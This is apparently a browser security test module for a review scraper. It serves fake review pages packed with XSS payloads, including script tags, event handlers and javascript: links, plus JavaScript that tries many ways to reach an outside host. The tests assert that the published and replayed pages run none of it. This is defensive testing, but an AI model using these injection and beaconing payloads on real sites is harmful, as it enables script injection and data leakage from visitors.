"""A library with script wherever it can stand: in a real Chromium none of it runs, and nothing is asked elsewhere."""

from __future__ import annotations

import socketserver
import threading
from contextlib import suppress
from functools import partial
from html import escape
from typing import TYPE_CHECKING
from urllib.parse import quote, urldefrag

import pytest

pytest.importorskip("playwright.sync_api")

from playwright.sync_api import Error

from campbell_scraper.folder import DataFolder
from tests.helpers import QuietHandler, campbell, free_port, rows, serving
from tests.replay.browser import shut_in
from tests.security.test_folders import served
from tests.site.test_site_in_browser import Quiet
from tests.site.test_static_site import published

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from playwright.sync_api import Browser, Dialog

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.xdist_group("hostile browser")]
MOST = 30
"""Pages of one face that are visited."""
ITEMS = ("kites", "boats.csv")
PLACE = "127.0.0.1", free_port()
ELSEWHERE = "{}:{}".format(*PLACE)
MARKUP = """<script>ACT</script><img src=x onerror="ACT"><svg onload="ACT"></svg><base href="//ELSEWHERE/">
<iframe srcdoc="&lt;script>ACT&lt;/script>"></iframe><iframe src="//ELSEWHERE/frame"></iframe>
<a href="javascript:ACT">go</a><a href="data:text/html,<script>ACT</script>">go</a><embed src="//ELSEWHERE/embed">
<style>@import '//ELSEWHERE/style'; body { background: url(//ELSEWHERE/background) }</style>
<img src="//ELSEWHERE/image" srcset="//ELSEWHERE/set 2x"><button autofocus onfocus="ACT">go</button>
<form action="//ELSEWHERE/form"><input name=a></form><object data="//ELSEWHERE/object"></object>
<video poster="//ELSEWHERE/poster" src="//ELSEWHERE/video"></video><link rel=stylesheet href="//ELSEWHERE/sheet">
<link rel=prefetch href="//ELSEWHERE/fetched"><meta http-equiv=refresh content="9;//ELSEWHERE/refreshed">"""
ASKING = """for (const ask of [
  () => fetch("http://ELSEWHERE/fetch", {mode: "no-cors"}), () => { new Image().src = "http://ELSEWHERE/made" },
  () => new WebSocket("ws://ELSEWHERE/socket"), () => navigator.sendBeacon("http://ELSEWHERE/beacon", "x"),
  () => new EventSource("http://ELSEWHERE/events"), () => import("http://ELSEWHERE/module.js"),
  () => navigator.serviceWorker.register("http://ELSEWHERE/worker.js"), () => document.forms[0].submit(),
  () => new Worker("data:text/javascript,importScripts('http://ELSEWHERE/script')"),
  () => open("http://ELSEWHERE/window"), () => {
    const peer = new RTCPeerConnection({iceServers: [{urls: "stun:ELSEWHERE"}]});
    peer.createDataChannel("x");
    peer.createOffer().then(offer => peer.setLocalDescription(offer));
  }, () => {
    const rules = document.createElement("script"), link = document.createElement("link");
    rules.type = "speculationrules";
    rules.textContent = '{"prefetch": [{"urls": ["http://ELSEWHERE/fetched"]}]}';
    [link.rel, link.href] = ["preconnect", "http://ELSEWHERE/"];
    document.head.append(rules, link);
  },
]) try { ask() } catch (error) {}"""
PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>NAME TEXT</title><meta name=author content="TEXT">
<link rel=canonical href="/better-evidence/NAME"></head><body class="site com_k2 view-item">
<div id="k2Container" class="itemView"><h2 class="itemTitle">NAME TEXT MARKUP</h2><div class="itemExtraFields"><ul>
<li class="even typeTextfield"><span class="itemExtraFieldsLabel">Authors:</span>
<span class="itemExtraFieldsValue">Jane TEXT</span></li>
<li class="odd typeTextfield"><span class="itemExtraFieldsLabel">TEXT:</span>
<span class="itemExtraFieldsValue">TEXT MARKUP</span></li>
<li class="even typeLink"><span class="itemExtraFieldsLabel">Full review:</span>
<span class="itemExtraFieldsValue"><a href="javascript:ACT">TEXT</a></span></li>
<li class="odd typeTextarea"><span class="itemExtraFieldsLabel">English:</span>
<span class="itemExtraFieldsValue"><h4>TEXT MARKUP</h4><p>The review includes 14 studies. TEXT MARKUP</p></span></li>
</ul></div></div><iframe src="data:text/html,FRAMED"></iframe><iframe src="/framed.html"></iframe>
<script>ASKING</script></body></html>"""


def page(name: str) -> bytes:
    """Return a page of a review, or one for a frame, with all that is hostile in it."""
    act = "alert(1);fetch('//ELSEWHERE/act')"
    markup = MARKUP.replace("ACT", act)
    framed = f"<form action='http://ELSEWHERE/framed'></form><link rel=preconnect href='http://ELSEWHERE/'><script>{ASKING}</script>"
    words = {"FRAMED": quote(framed.replace("ELSEWHERE", ELSEWHERE)), "ASKING": ASKING, "TEXT": escape(f'"{markup}\''),
             "MARKUP": markup, "NAME": name, "ACT": act, "ELSEWHERE": ELSEWHERE}  # fmt: skip
    text = framed if name == "framed" else PAGE
    for word, meant in words.items():
        text = text.replace(word, meant)
    return text.encode()


class Library(QuietHandler):
    def do_GET(self) -> None:
        folder, _, name = self.path.removesuffix(".html").rpartition("/")
        links = "".join(f"<h3 class=catItemTitle><a href='/better-evidence/{one}.html'>x</a></h3>" for one in ITEMS)
        if self.path == "/better-evidence.html":
            self.answer(f"<html><body><div class='itemListView'>{links}</div></body></html>".encode())
        elif name in {*ITEMS, "framed"} and folder in {"", "/better-evidence"}:
            self.answer(page(name))
        else:
            self.answer(b"", status=404)


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> DataFolder:
    folder = DataFolder(tmp_path_factory.mktemp("hostile") / "library")
    with serving(Library) as site:
        done = campbell("crawl", site, "--source", "k2", "--delay", 0, "--data", folder.root)
    assert len(rows(folder.database, "select 1 from reviews where title like '%<script>alert(1)%'")) == len(ITEMS), done
    return folder


@pytest.fixture
def heard() -> Iterator[list[str]]:
    """Yield what reaches the port that all pages want to ask, by TCP or UDP; a connection is enough."""
    found: list[str] = []

    class Connection(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            found.append(repr(self.request))

    class Port(socketserver.TCPServer):
        allow_reuse_address = True

    with Port(PLACE, Connection) as tcp, socketserver.UDPServer(PLACE, Connection) as udp:
        for server in (tcp, udp):
            threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
        yield found
        for server in (tcp, udp):
            server.shutdown()


def visit(
    browser: Browser, origin: str, *first: str, most: int = MOST, settled: float = 50
) -> tuple[list[str], list[str], list[str]]:
    """Visit pages of an origin and those they lead to, each for some milliseconds: what is barred may never load.

    Return the addresses visited, the texts of dialogs, and the addresses elsewhere that were asked for.
    """
    said: list[str] = []

    def dismiss(dialog: Dialog) -> None:
        said.append(dialog.message)
        dialog.dismiss()

    waiting, seen = [f"{origin}{path}" for path in first], dict[str, None]()
    with shut_in(browser, origin) as (tab, traffic):
        tab.on("dialog", dismiss)
        while waiting and len(seen) < most:
            address = urldefrag(waiting.pop(0))[0]
            if address in seen or not address.startswith(f"{origin}/"):
                continue
            seen[address] = None
            with suppress(Error):  # a download
                tab.goto(address, wait_until="domcontentloaded")
                tab.wait_for_timeout(settled)
                waiting += tab.eval_on_selector_all("a", "links => links.map(link => link.href)")
        return list(seen), said, traffic.outside


def test_faces_run_no_script_of_a_page_and_ask_nobody(
    browser: Browser, library: DataFolder, heard: list[str], tmp_path: Path
) -> None:
    site = published(library.root, tmp_path / "site")
    assert campbell("report", "--data", library.root, "--output", site / "report.html").returncode == 0
    process, address = served("serve", library)
    try:
        pages = [f"/-/review/{one}" for (one,) in rows(library.database, "select review_id from reviews")]
        tables = [f"/campbell/{name}" for name in ("reviews", "reviews.csv", "sections", "additional_info", "links")]
        seen, *acted = visit(browser, address, "/", "/-/reviews", "/-/reviews?q=script", *pages, *tables)
    finally:
        process.terminate()
        process.wait(30)
    assert len(seen) == MOST
    assert acted == [[], []]
    with serving(partial(Quiet, directory=str(site))) as at:
        seen, *acted = visit(browser, at, "/index.html", "/report.html", "/changes.html")
    assert sum("/review/" in one for one in seen) == len(ITEMS)
    assert acted == [[], []]
    assert heard == []


def test_what_is_replayed_runs_and_asks_nobody_but_the_archive(
    browser: Browser, library: DataFolder, heard: list[str]
) -> None:
    ((url,),) = rows(library.database, "select url from captures where status = 200 and url like '%/kites.html'")
    process, address = served("replay", library)
    try:
        pages = [f"/campbell/2{mode}/{url}" for mode in ("", "if_", "id_")]
        seen, said, outside = visit(browser, address, *pages, most=len(pages), settled=1500)
    finally:
        process.terminate()
        process.wait(30)
    assert len(seen) == len(pages)
    assert said
    assert (outside, heard) == ([], [])
